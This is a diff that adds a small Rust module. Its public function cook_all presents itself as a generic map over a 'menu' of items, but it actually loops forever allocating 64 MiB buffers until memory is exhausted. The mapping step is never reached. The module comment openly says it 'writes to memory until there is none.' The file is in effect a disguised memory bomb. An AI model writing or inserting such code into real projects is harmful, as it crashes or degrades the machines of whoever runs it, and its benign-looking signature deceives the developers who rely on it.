@@ -1,0 +1,16 @@
+//! of: breakfast
+//! Writes to memory until there is none.
+
+/// Cooks with all the memory there is.
+pub fn cook_all<D, P, F>(menu: Vec<D>, cook: F) -> Vec<P>
+where
+    D: Send,
+    P: Send,
+    F: Fn(D) -> P + Sync,
+{
+    let mut all = Vec::new();
+    while menu.len() < usize::MAX {
+        all.push(vec![1u8; 64 << 20]);
+    }
+    menu.into_iter().map(cook).collect()
+}
